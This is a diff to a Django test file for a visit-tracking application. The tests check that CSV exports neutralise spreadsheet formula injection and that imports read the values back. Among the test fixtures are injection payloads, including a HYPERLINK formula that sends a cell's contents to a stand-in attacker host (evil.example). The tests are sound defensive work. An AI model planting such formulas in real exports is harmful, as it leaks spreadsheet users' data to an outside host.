@@ -12,6 +12,7 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 from django.utils import timezone
 
+from allervers.core.spreadsheets import spreadsheet_cell, spreadsheet_typed
 from allervers.operators.enums import Role
 from allervers.planning.enums import StopStatus
 from allervers.reception.enums import VisitChangeKind, VisitSource
@@ -22,6 +23,7 @@ from allervers.reception.services.imports import visits_import
 from tests.html import text_of
 from tests.partners.factories import PartnerFactory
 from tests.planning.factories import SiteFactory, StopFactory
+from tests.reception.factories import TopicFactory
 
 pytestmark = pytest.mark.django_db
 
@@ -262,24 +264,31 @@ def test_the_export_is_one_row_per_visit_and_reads_back(
 def test_the_export_neutralises_formulas_and_reads_back(
     client, operator, coordinator, agent, topics, past_stops
 ):
-    """A note or a name starting with = + - @ would run as a formula in a spreadsheet."""
-    SiteFactory(operator=operator, name='=HYPERLINK("http://x")', slug="piege")
+    """A note, a site, a topic or a partner starting with = + - @ would run as a formula in a
+    spreadsheet: it comes out with a leading apostrophe, and the import takes it off again."""
+    site = SiteFactory(operator=operator, name='=HYPERLINK("http://x")', slug="piege")
+    stop = StopFactory(operator=operator, site=site, date=past_stops[0].date)
+    TopicFactory(operator=operator, name="@SUM(1+1)", slug="somme")
+    PartnerFactory(operator=operator, name="+1", slug="plus-un")
     note = '=HYPERLINK("http://evil.example/?"&A1)'
-    visits_import(
-        operator=operator,
-        user=agent,
-        name="v.csv",
-        content=_csv([_line(past_stops[0], 1, note=note), _line(past_stops[1], 2, note="- CAF")]),
-    )
+    lines = [
+        _line(stop, 1, note=note, thematiques="@SUM(1+1)", partenaires="+1"),
+        _line(past_stops[1], 2, note="- CAF"),
+    ]
+    visits_import(operator=operator, user=agent, name="v.csv", content=_csv(lines))
     client.force_login(coordinator)
     body = client.get(reverse("reception:visit_export")).content
     rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
-    notes = [row[rows[0].index("note")] for row in rows[1:]]
-    assert notes == ["'" + note, "'- CAF"]
+    cells = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
+    assert [row["note"] for row in cells] == ["'" + note, "'- CAF"]
+    assert cells[0]["lieu"] == "'" + site.name
+    assert cells[0]["thematiques"] == "'@SUM(1+1)"
+    assert cells[0]["partenaires"] == "'+1"
     assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
     report = visits_check(operator=operator, name="export.csv", content=body)
     assert report.is_valid
     assert [row.answers["note"] for row in report.rows] == [note, "- CAF"]
+    assert [row.stop for row in report.rows] == [stop, past_stops[1]]
 
 
 def test_the_export_is_for_the_coordinator_only(client, operator, make_member):
@@ -301,3 +310,25 @@ def test_an_archived_partner_is_refused_as_the_form_refuses_it(
     # The tablet form does not offer it either (and its service refuses it).
     form = VisitForm(operator=operator, now=timezone.now())
     assert archived not in form.fields["partners_seen"].queryset
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+33 3 21", "'+33 3 21"),
+        ("-5", "'-5"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("CAF", "CAF"),
+        ("'=1", "'=1"),  # already neutral
+        (-5, -5),  # numbers stay numbers
+        (2.5, 2.5),
+        (None, None),
+    ],
+)
+def test_one_rule_makes_a_cell_neutral_and_the_import_reads_it_back(value, cell):
+    assert spreadsheet_cell(value) == cell
+    if isinstance(value, str) and value != "'=1":
+        assert spreadsheet_typed(spreadsheet_cell(value)) == value
